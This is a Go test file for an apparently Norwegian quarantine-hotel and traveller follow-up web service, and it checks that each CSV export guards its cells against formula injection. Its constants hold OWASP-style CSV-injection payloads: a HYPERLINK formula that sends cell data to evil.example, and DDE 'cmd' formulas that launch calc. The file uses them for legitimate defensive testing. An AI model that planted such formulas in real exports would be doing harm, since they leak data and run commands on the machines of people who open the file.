package web_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"mime"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"beredskap"
	"beredskap/followup"
	"beredskap/hotel"
	"beredskap/internal/safecsv"
	"beredskap/rules"
	"beredskap/storetest"
)

// Hostile values of the public form and of the staff forms, from OWASP's
// page on CSV injection.
const (
	hostileFirst    = `=HYPERLINK("http://evil.example/?"&A1,"Klikk")`
	hostileLast     = `@SUM(1+9)*cmd|' /C calc'!A0`
	hostileEmployer = `+1+cmd|' /C calc'!A0`
	hostileHotel    = `-2+3+cmd|' /C calc'!A0`
)

// Issue 13, item 5: every CSV export of the server goes through the one
// writer that guards cells against formula injection. A traveller with
// hostile names, a hostile employer and a hostile hotel name reaches every
// CSV export endpoint; no cell of any of them begins as a formula, and the
// hostile values are there, guarded.
func TestEveryCSVExportDefusesFormulas(t *testing.T) {
	f := newMuniFixture(t)
	ts := f.ts
	coord := mustAddStaffUser(t, ts, "csv.coordinator@example.no", beredskap.RoleHotelCoordinator, municipal(municipalityA))
	labour := mustAddStaffUser(t, ts, "csv.labour@example.no", beredskap.RoleLabourInspector,
		beredskap.Scope{Kind: beredskap.ScopeLabourInspectorate})
	for _, u := range []*staffUser{coord, labour} {
		mustLogIn(t, ts, u)
	}

	receipt := hostileRegistration(t, ts)
	system := beredskap.WithActor(context.Background(), beredskap.SystemActor())
	if _, _, err := ts.FollowUp.PlanPass(system); err != nil {
		t.Fatalf("plan pass: %v", err)
	}
	tl, err := ts.FollowUp.Traveller(system, receipt)
	if err != nil || tl.Plan == nil {
		t.Fatalf("the hostile traveller has no follow-up plan: %v", err)
	}
	centre := actorOf(t, ts, f.centre)
	if _, err := ts.FollowUp.Claim(centre, tl.Plan.ID); err != nil {
		t.Fatalf("claim: %v", err)
	}
	_, err = ts.FollowUp.FileReport(centre, tl.Plan.ID, followup.ReportInput{
		Outcome: beredskap.CallReached, Language: "pl", Understood: beredskap.UnderstoodYes, StayingAt: "Hotell",
		EmployerBreach: true, EmployerOrg: validOrg, EmployerName: hostileEmployer, EmployerText: "Arbeid i karantene",
		EmployerSuspected: []beredskap.EmployerSuspicion{beredskap.SuspectWorkInQuarantine},
	})
	if err != nil {
		t.Fatalf("file a report with an employer breach: %v", err)
	}

	h, err := ts.Hotels.CreateHotel(actorOf(t, ts, coord), hotel.HotelInput{
		Name: hostileHotel, Address: "Karl Johans gate 1", PostalCode: "0154", ContactName: "Kari Kontakt",
		ContactEmail: "kontakt@oslo.test", ContactPhone: "+4722000000", Rooms: 5, Active: true,
	})
	if err != nil {
		t.Fatalf("add hotel: %v", err)
	}
	st := mustStay(t, ts, coord, receipt, h)
	if st.Payer != beredskap.PayerEmployer {
		t.Fatalf("the stay's payer is %s; want the employer", st.Payer)
	}

	period := "from=" + st.FromDay + "&to=" + st.ToDay
	oslo, _ := time.LoadLocation("Europe/Oslo")
	today := time.Now().In(oslo).Format(time.DateOnly)
	stay := fmt.Sprint(st.ID)
	for _, tt := range []struct {
		path   string
		as     *staffUser
		api    bool
		header string   // the first column's name
		want   []string // hostile values the export holds
		file   string   // the file's name (issue 16: in the page's language, with the day)
	}{
		{"/api/v1/stays/invoices?format=csv&" + period, coord, true, "org_number", []string{hostileEmployer, hostileFirst, hostileHotel},
			"employer-invoice-data-" + st.FromDay + "-to-" + st.ToDay + ".csv"},
		{"/staff/invoices?lang=nb&format=csv&" + period, coord, false, "Organisasjonsnummer", []string{hostileEmployer, hostileFirst, hostileHotel},
			"fakturagrunnlag-arbeidsgivere-" + st.FromDay + "-til-" + st.ToDay + ".csv"},
		{fmt.Sprintf("/api/v1/stays/%d/fees?format=csv", st.ID), coord, true, "stay", nil, "fee-statement-stay-" + stay + "-" + today + ".csv"},
		{fmt.Sprintf("/staff/stays/%d/fees.csv?lang=nb", st.ID), coord, false, "Opphold", nil, "egenandel-opphold-" + stay + "-" + today + ".csv"},
		{"/api/v1/followup/export?format=csv", f.officerA, true, "receipt", []string{hostileFirst, hostileLast},
			"travellers-to-follow-up-" + today + ".csv"},
		{"/staff/followup/export?lang=nb&format=csv", f.officerA, false, "Kvittering", []string{hostileFirst, hostileLast},
			"innreisende-til-oppfølging-" + municipalityA + "-" + today + ".csv"},
		{"/staff/followup/export?lang=en&format=csv", f.officerA, false, "Receipt", []string{hostileFirst, hostileLast},
			"travellers-to-follow-up-" + municipalityA + "-" + today + ".csv"},
		{"/api/v1/labour-notices?format=csv", labour, true, "org_number", []string{hostileEmployer}, "labour-inspection-notices-" + today + ".csv"},
		{"/staff/labour/notices?lang=nb&format=csv", labour, false, "Organisasjonsnummer", []string{hostileEmployer},
			"meldinger-til-arbeidstilsynet-" + today + ".csv"},
	} {
		var resp *http.Response
		if tt.api {
			resp = ts.get(t, tt.path, "Authorization", "Bearer "+tt.as.Token)
		} else {
			resp = staffGet(t, ts, tt.as, tt.path)
		}
		body := string(readBody(t, resp))
		if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
			t.Errorf("%s: status %d, %s; want a CSV file", tt.path, resp.StatusCode, resp.Header.Get("Content-Type"))
			continue
		}
		if got := attachmentName(t, resp); got != tt.file {
			t.Errorf("%s: file name %q; want %q", tt.path, got, tt.file)
		}
		// Issue 16, item 10: a download from a staff page is for a
		// spreadsheet set up for its language: a byte order mark, ';'
		// between Norwegian cells, column names and days in words.
		rd := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, safecsv.BOM)))
		norwegian := strings.Contains(tt.path, "lang=nb")
		if norwegian {
			rd.Comma = ';'
		}
		if !tt.api && !strings.HasPrefix(body, safecsv.BOM) {
			t.Errorf("%s: no UTF-8 byte order mark", tt.path)
		}
		rows, err := rd.ReadAll()
		if err != nil || len(rows) < 2 {
			t.Errorf("%s: %d rows, %v:\n%s", tt.path, len(rows), err, body)
			continue
		}
		if rows[0][0] != tt.header {
			t.Errorf("%s: header %q; want it to begin with %q", tt.path, rows[0], tt.header)
		}
		for _, row := range rows[1:] {
			for _, c := range row {
				if norwegian && isoDay.MatchString(c) {
					t.Errorf("%s: cell %q is an ISO date in a Norwegian export", tt.path, c)
				}
			}
		}
		cells := map[string]bool{}
		for _, row := range rows {
			for _, c := range row {
				cells[c] = true
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && strings.Trim(strings.TrimPrefix(c, "-"), "0123456789") != "" {
					t.Errorf("%s: cell %q begins as a formula", tt.path, c)
				}
			}
		}
		for _, v := range tt.want {
			if !cells["'"+v] && !containsCell(cells, "'"+v) {
				t.Errorf("%s: no cell holds %q guarded:\n%s", tt.path, v, body)
			}
		}
	}
}

// attachmentName returns the name an answer is to be saved under: the
// UTF-8 filename* of its Content-Disposition (RFC 6266), after checking
// that its plain filename is ASCII without quotes.
func attachmentName(t *testing.T, resp *http.Response) string {
	t.Helper()
	cd := resp.Header.Get("Content-Disposition")
	disp, params, err := mime.ParseMediaType(cd)
	if err != nil || disp != "attachment" {
		t.Errorf("Content-Disposition %q: %s, %v; want an attachment", cd, disp, err)
		return ""
	}
	plain, _, _ := strings.Cut(strings.TrimPrefix(cd, `attachment; filename="`), `"`)
	for _, r := range plain {
		if r < 0x21 || r > 0x7e {
			t.Errorf("Content-Disposition %q: the plain filename is not ASCII", cd)
			break
		}
	}
	if !strings.Contains(cd, "filename*=UTF-8''") {
		t.Errorf("Content-Disposition %q has no filename*", cd)
	}
	return params["filename"]
}

// isoDay matches a cell that begins with an ISO 8601 day.
var isoDay = regexp.MustCompile(`^\d{4}-\d{2}-\d{2}`)

// containsCell reports whether a cell begins with prefix (the guest's
// name is first and last name in one cell).
func containsCell(cells map[string]bool, prefix string) bool {
	for c := range cells {
		if strings.HasPrefix(c, prefix) {
			return true
		}
	}
	return false
}

// hostileRegistration stores, as the public form would, a worker arriving
// by air at muniArrival, bound for a quarantine hotel in municipality A,
// with hostile names and a hostile employer, and returns the receipt.
func hostileRegistration(t *testing.T, ts *testServer) string {
	t.Helper()
	book, err := rules.Embedded()
	if err != nil {
		t.Fatal(err)
	}
	r := storetest.Registration(hostileFirst, hostileLast)
	r.ArrivalTime = muniArrival.Format(time.RFC3339)
	r.Traveller.IDDocument.Number = fmt.Sprintf("EA%07d", muniPassports.Add(1))
	r.Purpose = beredskap.PurposeWork
	r.Employer = beredskap.Employer{OrgNumber: validOrg, Name: hostileEmployer}
	r.Accommodation.Type = beredskap.AccommodationQuarantineHotel
	r.Documents = nil
	if ps := r.Validate(muniArrival); ps != nil {
		t.Fatalf("the hostile registration is not valid input: %v", ps)
	}
	d, err := book.Evaluate(&r, "en")
	if err != nil {
		t.Fatalf("evaluate: %v", err)
	}
	if !d.Hotel.Required || !d.Quarantine.Required {
		t.Fatalf("the hostile registration needs no hotel quarantine: %+v", d)
	}
	reg, _, err := ts.Registrations.CreateRegistration(context.Background(), beredskap.NewRegistration{
		Registration: r, Decision: d, Municipality: municipalityA,
	})
	if err != nil {
		t.Fatal(err)
	}
	return reg.Receipt
}
